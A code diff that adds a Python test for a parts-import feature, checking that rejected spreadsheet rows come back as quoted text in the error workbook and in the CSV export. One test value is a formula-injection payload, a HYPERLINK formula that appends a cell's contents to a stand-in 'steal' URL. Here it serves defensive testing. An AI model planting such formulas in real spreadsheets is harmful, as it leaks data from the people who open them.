@@ -290,6 +290,37 @@ def test_rejected_rows_fixed_in_the_error_workbook_import_as_they_are(owner, tmp
     assert Part.get(Part.sku == "A-2").retail_price == Decimal("2.50")
 
 
+def test_a_rejected_formula_comes_back_as_text_in_the_error_workbook(owner, tmp_path):
+    link = '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'
+    book = openpyxl.Workbook()
+    for row in (["SKU", "Name", "Cost", "Since", "Note"],
+                [None, link, 12.5, dt.date(2024, 5, 1), "+1 555 0100"],
+                ["B-2", "@SUM(1)", "lots", dt.date(2024, 6, 2), "-minus"],
+                ["B-3", "Good", 3, None, None]):
+        book.active.append(row)
+    book.active["B2"].data_type = "s"  # typed as text in the file (a formula is refused)
+    path = tmp_path / "p.xlsx"
+    book.save(path)
+    report = run_import(owner, "parts", path)
+    assert (report.created, report.rejected) == (1, 2)
+    errors = tmp_path / "rejected.xlsx"
+    assert write_error_workbook(report, errors) == 2
+    sheet = openpyxl.load_workbook(errors).active
+    assert [c.value for c in sheet[1]] == ["SKU", "Name", "Cost", "Since", "Note",
+                                           "Import errors"]
+    for cell, text in ((sheet["B2"], link), (sheet["B3"], "@SUM(1)"),
+                       (sheet["E2"], "+1 555 0100"), (sheet["E3"], "-minus")):
+        assert (cell.value, cell.data_type) == (text, "s")  # text, never a formula
+        assert cell.quotePrefix  # and Excel keeps it text when the cell is edited
+    assert [sheet["C2"].value, sheet["C3"].value] == [12.5, "lots"]  # a number stays one
+    assert sheet["D2"].value.date() == dt.date(2024, 5, 1)  # a date stays a date
+    assert sheet["F2"].value == "Row 2: SKU: A part needs a SKU"
+    # the same rows as CSV: text that a spreadsheet would run gets a leading quote
+    assert write_error_workbook(report, tmp_path / "rejected.csv") == 2
+    text = (tmp_path / "rejected.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text
+
+
 def test_mappings_are_remembered_per_kind_and_set_of_headers(owner):
     import_mappings.remember(owner, "parts", ["Art.", "Bez."], {"Art.": "sku", "Bez.": "name"})
     assert import_mappings.recall("parts", ["Art.", "Bez."]) == {"Art.": "sku", "Bez.": "name"}
